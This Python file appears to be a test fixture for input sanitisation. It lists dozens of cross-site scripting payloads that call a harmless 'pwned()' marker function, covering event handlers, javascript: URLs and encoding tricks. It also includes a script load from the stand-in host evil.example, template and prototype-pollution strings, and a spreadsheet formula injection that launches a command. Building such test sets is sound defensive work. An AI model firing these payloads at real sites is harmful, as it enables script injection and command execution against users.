"""Texts with which somebody might try to have their own script run, or a page broken. Each would call `pwned()`."""

CALL = "pwned()"
PAYLOADS = [
    f"<script>{CALL}</script>", f"<SCRIPT>{CALL}</SCRIPT>", f"<script src=//evil.example/x.js></script>", f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<img src=x onerror={CALL}>", f"<img src=x onerror='{CALL}'>", f'<img src="x" onerror="{CALL}">', f"<IMG SRC=x ONERROR={CALL}>",
    f"<img/src=x/onerror={CALL}>", f"<img src=x\tonerror={CALL}>", f"<svg onload={CALL}>", f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>", f"<svg/onload={CALL}>", f"<math><mtext></mtext><script>{CALL}</script></math>",
    f"<body onload={CALL}>", f"<iframe src=javascript:{CALL}></iframe>", f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<object data=javascript:{CALL}></object>", f"<embed src=javascript:{CALL}>", f"<a href=javascript:{CALL}>x</a>", f"javascript:{CALL}",
    f"<form action=javascript:{CALL}><button>x</button></form>", f"<input autofocus onfocus={CALL}>", f"<select autofocus onfocus={CALL}>",
    f"<textarea autofocus onfocus={CALL}>", f"<details open ontoggle={CALL}>", f"<video><source onerror={CALL}></video>", f"<audio src=x onerror={CALL}>",
    f"<marquee onstart={CALL}>", f"<style>@import 'javascript:{CALL}'</style>", f"<link rel=stylesheet href=javascript:{CALL}>", f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"<base href=javascript:{CALL}//>", f"</title><script>{CALL}</script>", f"</textarea><script>{CALL}</script>", f"</script><script>{CALL}</script>", f"</style><script>{CALL}</script>",
    f'"><script>{CALL}</script>', f"'><script>{CALL}</script>", f'" onfocus={CALL} autofocus x="', f"' onfocus={CALL} autofocus x='", f"`><img src=x onerror={CALL}>",
    f"--><script>{CALL}</script>", f"]]><script>{CALL}</script>", f"{{{{constructor.constructor('{CALL}')()}}}}", f"${{{CALL}}}", f"#{{{CALL}}}", f"{{{{{{{CALL}}}}}}}",
    f"&lt;script&gt;{CALL}&lt;/script&gt;", f"&#60;script&#62;{CALL}&#60;/script&#62;", f"%3Cscript%3E{CALL}%3C/script%3E", f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{CALL}\\x3c/script\\x3e", f"<\u0301script>{CALL}</script>", f"＜script＞{CALL}＜/script＞", f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<template><script>{CALL}</script></template>", f"<x onclick={CALL} tabindex=1 autofocus onfocus={CALL}>", f"{{title}} {{place}} {{reasons}} {{distance}}", "__proto__", "constructor", "=cmd|'/C calc'!A0",
]
MARK = "globalThis.wasPwned = false; globalThis.pwned = () => { globalThis.wasPwned = true; };"
